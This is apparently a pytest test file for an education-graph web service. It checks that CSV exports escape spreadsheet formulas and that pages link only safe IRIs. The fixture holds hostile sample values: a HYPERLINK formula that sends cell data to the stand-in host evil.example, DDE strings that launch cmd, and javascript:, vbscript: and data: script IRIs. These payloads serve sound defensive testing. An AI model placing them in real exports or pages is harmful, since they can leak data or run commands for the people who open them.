"""Safe output: formula-safe CSV exports, and only local, http(s) and mailto IRIs as links."""

from __future__ import annotations

import csv
import doctest
import io
import re
import zipfile
from collections.abc import Iterator

import networkx as nx
import pytest
from fastapi.testclient import TestClient
from rdflib import Literal, URIRef
from rdflib.namespace import RDF, XSD

from bildungsgraph import links, spreadsheet
from bildungsgraph.analysis import export_network
from bildungsgraph.records import items_csv
from bildungsgraph.service import BildungsGraph
from bildungsgraph.spreadsheet import FORMULA_STARTS

pytestmark = pytest.mark.slow
BASE = "https://w3id.org/bildungsgraph/"
SCHEMA = "https://schema.org/"
GRAPH = BASE + "graph/test-hostile"
KENNUNG = "05114-hostile"
NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
PHONE = "+cmd|' /C calc'!A0"
DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_IRIS = (
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg",
    "JaVaScRiPt:alert(3)",
    "vbscript:msgbox(4)",
)


@pytest.fixture(scope="module")
def hostile(service: BildungsGraph) -> Iterator[str]:
    """An actor with formula text and script IRIs, written into the test store directly."""
    actor = URIRef(f"{BASE}id/actor/{KENNUNG}")
    triples = [
        (actor, RDF.type, URIRef(BASE + "ontology#EducationActor")),
        (actor, URIRef(SCHEMA + "name"), Literal(NAME)),
        (actor, URIRef(SCHEMA + "telephone"), Literal(PHONE)),
        (actor, URIRef(SCHEMA + "description"), Literal(DESCRIPTION)),
        (actor, URIRef(SCHEMA + "url"), Literal("javascript:alert(1)", datatype=XSD.anyURI)),
        (actor, URIRef(BASE + "ontology#areaServed"), URIRef(BASE + "id/kommune/05114")),
        (
            actor,
            URIRef(BASE + "ontology#actorType"),
            URIRef(BASE + "vocab/actor-type/education-office"),
        ),
        (actor, URIRef(SCHEMA + "sameAs"), URIRef("https://example.org/fine")),
        (actor, URIRef(SCHEMA + "sameAs"), URIRef("mailto:info@example.org")),
        *((actor, URIRef(SCHEMA + "sameAs"), URIRef(iri)) for iri in HOSTILE_IRIS),
        (actor, URIRef("javascript:alert(5)"), Literal("a predicate IRI")),
    ]
    service.writer.write([GRAPH], lambda: service.store.replace_graph(GRAPH, triples))
    yield KENNUNG
    service.writer.write([GRAPH], lambda: service.store.drop_graph(GRAPH))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_formula_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def _hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


def test_the_one_cell_rule_and_the_one_link_rule() -> None:
    assert doctest.testmod(spreadsheet).failed == 0
    assert doctest.testmod(links).failed == 0


def test_listing_csv_neutralises_formulas(client: TestClient, hostile: str) -> None:
    answer = client.get("/api/actors", params={"as": "csv", "q": "HYPERLINK", "page_size": 500})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = _cells(answer.text)
    row = next(row for row in rows if any(hostile in cell for cell in row))
    assert "'" + NAME in row
    _assert_formula_safe(rows)


def test_every_actor_listing_cell_is_safe(client: TestClient, hostile: str) -> None:
    rows = _cells(
        client.get("/api/actors", params={"as": "csv", "kommune": "05114", "page_size": 500}).text
    )
    assert any("'" + NAME in row for row in rows)
    _assert_formula_safe(rows)


def test_items_csv_keeps_numbers_and_neutralises_text() -> None:
    text = items_csv([{"name": "-1+1", "count": -3, "share": 0.5, "tags": ["@x", "y"]}])
    assert _cells(text) == [["name", "count", "share", "tags"], ["'-1+1", "-3", "0.5", "'@x | y"]]


def test_network_export_csv_neutralises_formulas(client: TestClient, hostile: str) -> None:
    answer = client.get("/api/network/export", params={"format": "csv", "kommune": "05114"})
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        for name in ("nodes.csv", "edges.csv"):
            _assert_formula_safe(_cells(archive.read(name).decode("utf-8")))
    graph = nx.Graph()
    graph.add_node("a", label=NAME, degree=-1)
    graph.add_node("b", label="\tx")
    graph.add_edge("a", "b", weight=2)
    with zipfile.ZipFile(io.BytesIO(export_network(graph, "csv"))) as archive:
        nodes = _cells(archive.read("nodes.csv").decode("utf-8"))
    assert nodes == [["id", "degree", "label"], ["a", "-1", "'" + NAME], ["b", "", "'\tx"]]


def test_actor_page_links_no_script_iri(client: TestClient, hostile: str) -> None:
    page = client.get(f"/actors/{hostile}")
    assert page.status_code == 200
    assert not [href for href in _hrefs(page.text) if not links.link_target(href)]
    assert "javascript:" not in page.text.lower()  # the website is left out, not linked
    assert "=HYPERLINK(&#34;https://evil.example" in page.text  # shown as text, escaped


def test_linked_data_page_shows_script_iris_as_text(client: TestClient, hostile: str) -> None:
    page = client.get(f"/id/actor/{hostile}", headers={"Accept": "text/html"})
    assert page.status_code == 200
    hrefs = _hrefs(page.text)
    assert not [href for href in hrefs if not links.link_target(href)], hrefs
    assert "https://example.org/fine" in hrefs and "mailto:info@example.org" in hrefs
    for iri in ("javascript:alert(1)", "JaVaScRiPt:alert(3)", "vbscript:msgbox(4)"):
        assert f'title="{iri}"' in page.text  # there, but as text
    assert 'title="data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg"' in page.text
    assert 'class="unlinked" title="javascript:alert(5)"' in page.text  # the predicate too


def test_search_page_shows_the_formula_name_as_text(client: TestClient, hostile: str) -> None:
    page = client.get("/search", params={"q": "HYPERLINK"})
    assert page.status_code == 200 and "=HYPERLINK(" in page.text
    assert not [href for href in _hrefs(page.text) if not links.link_target(href)]


def test_template_csv_keeps_its_header_and_example(client: TestClient) -> None:
    rows = _cells(client.get("/api/templates/akteure.csv").content.decode("utf-8-sig"))
    assert rows[0][0] == "Kennung" and len(rows) == 2
    _assert_formula_safe(rows)
